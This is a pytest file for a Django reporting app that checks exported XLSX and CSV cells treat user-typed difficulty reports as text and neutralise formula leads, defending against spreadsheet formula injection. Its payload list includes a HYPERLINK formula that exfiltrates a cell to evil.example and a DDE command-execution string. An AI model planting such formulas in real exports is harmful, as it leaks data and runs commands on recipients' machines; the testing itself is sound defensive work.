"""User text in an export is text, never a live formula (OWASP formula
injection): a commune's difficulty report typed as `=HYPERLINK(...)` must not
become a link that runs in the province's daily XLSX."""
from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from lienthong.spreadsheet import csv_value
from reports.models import DifficultyReport
from tests import factories as f

pytestmark = pytest.mark.django_db
D = date(2026, 11, 20)
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&C6,"Chi tiết")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)"]


def test_daily_xlsx_writes_difficulty_text_as_text(client, viewer, quang_tri, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    commune = f.current("19624")
    for i, text in enumerate(PAYLOADS):
        DifficultyReport.objects.create(unit=commune, description=text, since=D - timedelta(days=i + 1))
    client.force_login(viewer)
    response = client.get("/bao-cao/ngay/xem/", {"date": D.isoformat(), "format": "xlsx"})
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value in PAYLOADS}
    assert set(cells) == set(PAYLOADS)
    for text, cell in cells.items():
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.value == text


def test_csv_value_neutralises_formula_leads():
    for text in [*PAYLOADS, "\tx", "\rx"]:
        assert csv_value(text) == "'" + text
    assert csv_value("Xã Tân Hồng") == "Xã Tân Hồng"
    assert csv_value(12) == 12
